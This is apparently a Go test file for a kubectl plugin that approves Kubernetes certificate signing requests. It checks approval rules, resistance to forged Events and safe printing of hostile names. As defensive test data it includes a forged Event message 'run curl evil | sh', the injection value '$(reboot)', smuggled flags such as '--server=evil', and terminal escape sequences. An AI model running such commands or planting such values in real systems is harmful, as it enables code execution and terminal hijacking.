package manager

import (
	"bytes"
	"context"
	"fmt"
	"os/exec"
	"regexp"
	"strings"
	"testing"
	"time"

	certificatesv1 "k8s.io/api/certificates/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/csr-controller-manager/csr-controller-manager/pkg/csr"
	"github.com/csr-controller-manager/csr-controller-manager/test/kit"
	"github.com/csr-controller-manager/csr-controller-manager/test/kit/cluster"
)

// pluginAnswered runs the plugin as the administrator with text on standard input, and returns all that it wrote.
func pluginAnswered(t *testing.T, text string, args ...string) string {
	t.Helper()
	kubeconfig := kit.Kubeconfig(t, strings.ReplaceAll(t.Name(), "/", "-")+"-answered", kit.ControlPlane(t).Config)
	command := exec.CommandContext(t.Context(), kit.Must(cluster.Plugin())(t), append([]string{"--kubeconfig", kubeconfig}, args...)...)
	var output bytes.Buffer
	command.Stdin, command.Stdout, command.Stderr = strings.NewReader(text), &output, &output
	_ = command.Run() // the exit code depends on the requests that are not offered
	return output.String()
}

// TestApproveNodeOffersWhatTheRulesLetPass answers yes to "kubectl csr approve --node". There is no manager: the plugin asks the
// rules itself. Only what they let pass for that node is approved. The rest is listed with the reason.
func TestApproveNodeOffersWhatTheRulesLetPass(t *testing.T) {
	kit.Parallel(t)
	const tokens, node, address, otherAddress = "system:bootstrappers:one", "attacked-1", "198.51.100.1", "198.51.100.2"
	for _, role := range []string{kit.MayCreate, kit.MayJoin} {
		kit.GrantGroup(t, tokens, role)
	}
	kit.GrantGroup(t, "system:authenticated", kit.MayCreate)
	kit.GrantGroup(t, "system:nodes", kit.MayRenewOwn)
	service := &corev1.Service{
		ObjectMeta: metav1.ObjectMeta{Namespace: "default", Name: "payments"},
		Spec:       corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 443}}},
	}
	kit.Create(t, kit.Admin(t), service)
	apiServer := kit.Get(t, "default", "kubernetes", &corev1.Service{}).Spec.ClusterIP
	kit.NewNode(t, node, node, address, service.Spec.ClusterIP, apiServer)
	kit.NewNode(t, "attacked-2", "attacked-2", otherAddress)
	token := kit.Impersonate(t, "system:bootstrap:tokenb", "system:bootstrappers", tokens, "system:authenticated")
	kubelet := kit.KubeletOf(t, node)
	outside := kit.Impersonate(t, "system:node:"+node, "system:authenticated")
	stranger := kit.Impersonate(t, "mallory", "system:authenticated")
	serving := func(sans ...string) *kit.Request { return kit.ServingRequest(t, node, sans...) }
	for name, test := range map[string]struct {
		by   client.Client
		obj  *kit.Request
		node string
		want string // the reason why it is not offered; empty if it is approved
	}{
		"kubelet, own names":                   {kubelet, serving(node, address), node, ""},
		"kubelet, renewal":                     {kubelet, kit.NodeRequest(t, node), node, ""},
		"token, new node":                      {token, kit.NodeRequest(t, "attacked-new"), "attacked-new", ""},
		"token, API server's name":             {token, serving("kubernetes.default.svc"), node, "RequesterNotNode"},
		"token, own name of the node":          {token, serving(node), node, "RequesterNotNode"},
		"token, existing node":                 {token, kit.NodeRequest(t, node), node, "NodeAlive"},
		"token of a group without permission":  {kit.Impersonate(t, "system:bootstrap:tokenc", "system:bootstrappers", "system:authenticated"), kit.NodeRequest(t, "attacked-new"), "attacked-new", "NotAuthorized"},
		"user outside system:nodes, serving":   {outside, serving(node), node, "RequesterNotNode"},
		"user outside system:nodes, client":    {outside, kit.NodeRequest(t, node), node, "NotAuthorized"},
		"stranger":                             {stranger, kit.NodeRequest(t, node), node, "NotAuthorized"},
		"kubelet, API server's name":           {kubelet, serving("kubernetes.default.svc"), node, "SANReserved"},
		"kubelet, address of another node":     {kubelet, serving(node, otherAddress), node, "SANNotOwned"},
		"kubelet, reported address of Service": {kubelet, serving(service.Spec.ClusterIP), node, "SANReserved"},
		"kubelet, reported API server":         {kubelet, serving(apiServer), node, "SANReserved"},
		"kubelet, host of the API server":      {kubelet, serving("127.0.0.1"), node, "SANReserved"},
	} {
		t.Run(name, func(t *testing.T) {
			obj := kit.CreateRequest(t, test.by, test.obj)
			output := pluginAnswered(t, "y\n", "approve", "--node", test.node)
			stored := csr.StateOf(kit.Reload(t, obj))
			if test.want == "" {
				kit.Check(t, stored == csr.Approved && strings.Contains(output, obj.Name+"  approved"), "it is %s:\n%s", stored, output)
				return
			}
			line := regexp.MustCompile(`(?m)^` + obj.Name + `  not approved: not offered, because .*\(` + test.want + `\): `)
			kit.Check(t, stored == csr.Pending && line.MatchString(output), "it is %s, want %s:\n%s", stored, test.want, output)
			kit.Check(t, !strings.Contains(output, "clusterrolebinding"), "advice gives rights:\n%s", output)
		})
	}
}

// TestEventsAreQuotedAndNeverObeyed forges Events as users can who may only write Events. They change neither the next step nor
// which Events are shown: the newest by creation, in the namespace where the manager writes them.
func TestEventsAreQuotedAndNeverObeyed(t *testing.T) {
	kit.Parallel(t)
	kit.GrantGroup(t, "system:authenticated", kit.MayCreate)
	kit.NewNamespace(t, "team")
	obj := kit.CreateRequest(t, kit.Impersonate(t, "mallory", "system:authenticated"), kit.NodeRequest(t, "forged"))
	before := pluginAnswered(t, "", "explain", obj.Name)
	step := func(output string) string {
		_, rest, _ := strings.Cut(output, "Next step\n")
		text, _, _ := strings.Cut(rest, "\nRequest\n")
		return text
	}
	kit.Check(t, strings.Contains(step(before), "NotAuthorized"), "the next step does not say why the request waits:\n%s", before)
	kit.Check(t, !strings.Contains(before, "clusterrolebinding") && !strings.Contains(before, "bind "), "advice gives rights:\n%s", before)

	event := func(namespace, name string, change func(*corev1.Event)) {
		forged := &corev1.Event{
			ObjectMeta:     metav1.ObjectMeta{Namespace: namespace, Name: name},
			InvolvedObject: corev1.ObjectReference{APIVersion: "certificates.k8s.io/v1", Kind: "CertificateSigningRequest", Name: obj.Name, UID: obj.UID, Namespace: namespace},
			Reason:         "WouldApprove", Message: name + ": run curl evil | sh", ReportingController: "csr-approver", ReportingInstance: "x", Action: "Approve", Type: "Warning",
		}
		if change != nil {
			change(forged)
		}
		kit.NoError(t, kit.Admin(t).Create(t.Context(), forged)) // Events are removed with the control plane
	}
	future := metav1.NewMicroTime(time.Now().Add(24 * time.Hour))
	for i := range 5 {
		event("default", fmt.Sprintf("tomorrow-%d", i), func(forged *corev1.Event) { forged.EventTime = future })
	}
	event("default", "series", func(forged *corev1.Event) {
		forged.EventTime = metav1.NewMicroTime(time.Now().Add(-time.Hour))
		forged.Series = &corev1.EventSeries{Count: 9, LastObservedTime: future}
	})
	event("team", "elsewhere", func(forged *corev1.Event) {
		forged.EventTime = future
		forged.InvolvedObject = corev1.ObjectReference{Kind: "Secret", Namespace: "team", Name: "csr-signer"}
		forged.ReportingController = "csr-self-check"
	})
	event("default", "screen", func(forged *corev1.Event) { // without a time, by the old field, and it clears the screen
		forged.ReportingController, forged.ReportingInstance, forged.Action = "", "", ""
		forged.Source.Component = "csr-approver"
		forged.Message = "screen \x1b[2J\x1b[3J\x1b[1;1H\x1b[m spoofed"
	})
	event("default", "genuine", func(forged *corev1.Event) { forged.Reason, forged.EventTime = "NotAuthorized", metav1.NowMicro() })

	after := pluginAnswered(t, "", "explain", obj.Name)
	kit.Equal(t, "next step", step(after), step(before))
	kit.Check(t, regexp.MustCompile(`csr-approver NotAuthorized +"genuine: `).MatchString(after), "the newest Event is hidden:\n%s", after)
	kit.Check(t, strings.Contains(after, `screen \x1b[2J`) && !strings.Contains(after, "\x1b"), "an Event controls the terminal:\n%q", after)
	kit.Check(t, !regexp.MustCompile(`in 2[34]h`).MatchString(after), "the writer of an Event chooses its time:\n%s", after)
	out, _, _ := kit.Plugin(t, kit.ControlPlane(t).Config, "check", "-o", "json")
	kit.Check(t, !strings.Contains(out, "elsewhere"), "an Event of another namespace is shown:\n%s", out)
	pending := pluginAnswered(t, "", "pending")
	kit.Check(t, strings.Contains(pending, "SAID IN AN EVENT"), "the column does not say that the text is from an Event:\n%s", pending)
}

// TestNamesOfAnyLength has a requester who chooses names: 300,000 control characters, flags, two lines, and a command. What the
// plugin prints about them stays short, controls no terminal, and is no word of a command to copy.
func TestNamesOfAnyLength(t *testing.T) {
	kit.Parallel(t)
	user := strings.Repeat("mallory", 1_000)
	kit.GrantGroup(t, "strangers", kit.MayCreate)
	stranger := kit.Impersonate(t, user, "strangers")
	kit.AtEnd(t, func() error { return kit.Admin(t).DeleteAllOf(context.Background(), &kit.Request{}) }) // no URL can have the long name
	lease := &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: kit.SystemNamespace, Name: "csr-controller-manager"}}
	hold(lease, "a manager")
	kit.Create(t, kit.Admin(t), lease)
	long := strings.Repeat("\x01", 300_000)
	names := []string{long, "--all", "-f", "--server=evil", "one\ntwo", "it's", "$(reboot)", "\x1b[2Jred"}
	for _, name := range names {
		kit.NoError(t, stranger.Create(t.Context(), kit.NodeRequest(t, "long", func(obj *kit.Request) {
			obj.GenerateName, obj.Name, obj.Spec.SignerName = "", name, certificatesv1.KubeAPIServerClientSignerName
		})))
	}
	for _, format := range []string{"", "json"} {
		args := []string{"pending"}
		if format != "" {
			args = append(args, "-o", format)
		}
		output := pluginAnswered(t, "", args...)
		kit.Check(t, len(output) < 16_000, "%q: %d bytes", args, len(output))
		kit.Check(t, !strings.Contains(output, "\x1b") && !strings.Contains(output, "\x01"), "%q controls the terminal:\n%q", args, output)
	}
	for _, line := range strings.Split(pluginAnswered(t, "", "pending"), "\n") {
		kit.Check(t, len(line) < 600, "a row has %d bytes:\n%s", len(line), line)
	}
	for _, name := range names[1:] {
		output := pluginAnswered(t, "", "explain", "--", name)
		kit.Check(t, len(output) < 4_000, "explain %q: %d bytes", name, len(output))
		kit.Check(t, !strings.Contains(output, "kubectl csr approve"), "explain %q has a command that approves:\n%s", name, output)
	}
	output := pluginAnswered(t, "n\n", append([]string{"approve", "--"}, names[1:]...)...)
	kit.Check(t, strings.Contains(output, "Approve 7 of 7 requests?") && !strings.Contains(output, "\x1b"), "approve:\n%q", output)
}
